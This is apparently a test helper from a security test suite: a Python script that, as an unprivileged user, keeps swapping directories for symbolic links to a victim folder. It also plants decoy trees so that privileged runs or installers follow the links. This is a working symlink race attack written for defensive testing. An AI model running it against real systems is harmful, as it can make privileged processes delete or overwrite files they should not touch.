"""The attacker of the link-race tests: run as an unprivileged user, it
keeps swapping the subdirectories of a folder it may write into with
symbolic links to a victim folder, as fast as it can, until a stop file
appears. Each name in turn is a directory with a file and a subdirectory
in it, then, renamed away, a link to the victim.

    link_swapper.py FOLDER VICTIM STOPFILE [MARKER]

With MARKER the folder is first made (mode 0755) with an empty file of
that name in it: a tree planted to look like one an interrupted run left.

A FOLDER with a wildcard ("base/I*") stands for every folder it matches
(the working directories of runs as they appear): in each, the folders a
payload makes are planted as links, or swapped for them once made.
"""
import glob
import os
import shutil
import sys

NAMES = ["d%d" % i for i in range(6)]


def make_dir(path):
    os.mkdir(path)
    os.mkdir(os.path.join(path, "inner"))
    with open(os.path.join(path, "f.txt"), "wb") as f:
        f.write(b"attacker")


def plant(pattern, victim, stop):
    moved = 0
    while not os.path.exists(stop):
        for tree in glob.glob(pattern):
            for name in ("Windows", "InstallerData", "deep"):
                path = os.path.join(tree, name)
                if name == "deep":
                    path = os.path.join(tree, "InstallerData", name)
                try:
                    if os.path.isdir(path) and not os.path.islink(path):
                        moved += 1
                        os.rename(path, os.path.join(os.path.dirname(tree), "aside-%d" % moved))
                    os.symlink(victim, path)
                except OSError:
                    pass


def main():
    folder, victim, stop = sys.argv[1:4]
    if "*" in folder:
        print("ready", flush=True)
        plant(folder, victim, stop)
        return
    if len(sys.argv) > 4:
        os.makedirs(folder, mode=0o755)
        open(os.path.join(folder, sys.argv[4]), "wb").close()
    moved = 0
    print("ready", flush=True)
    while not os.path.exists(stop):
        for name in NAMES:
            path = os.path.join(folder, name)
            try:
                if os.path.islink(path):
                    os.unlink(path)
                    make_dir(path)
                elif os.path.isdir(path):
                    moved += 1
                    aside = os.path.join(folder, "aside-%d" % moved)
                    os.rename(path, aside)
                    os.symlink(victim, path)
                    shutil.rmtree(aside, ignore_errors=True)
                else:
                    make_dir(path)
            except OSError:
                # The privileged run removed something first: go on.
                pass


if __name__ == "__main__":
    main()
